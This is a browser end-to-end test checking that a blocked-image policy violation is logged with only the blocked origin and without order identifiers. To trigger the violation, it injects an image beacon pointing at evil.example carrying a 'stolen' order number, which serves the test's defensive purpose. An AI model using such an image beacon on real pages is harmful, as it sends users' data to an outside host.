import { logIn } from './people'
import { expect, test } from './stack'

test('a blocked resource is logged with its origin only @scripts @edge', async ({
  page,
  stack,
  complaints,
}) => {
  complaints.expected(/img-src/)
  await logIn(page, 'Aino', '/a/4101/orders/412873')
  const reported = page.waitForResponse('**/report-policy-violation')
  await page.evaluate(() => {
    const image = new Image()
    image.src = 'https://evil.example/picture.png?stolen=412873'
    document.body.append(image)
  })
  expect((await reported).status()).toBe(204)
  const told = () =>
    stack.log.find((text) => /policy violation.*evil|evil.*policy violation/.test(text)) ?? ''
  // The log line may come later than the answer.
  await expect.poll(told).not.toBe('')
  const line = told()
  expect(JSON.parse(line)).toMatchObject({
    'portal.policy.directive': 'img-src',
    'portal.policy.blocked': 'https://evil.example',
  })
  expect(line).not.toMatch(/412873|a\/4101|stolen/)
})
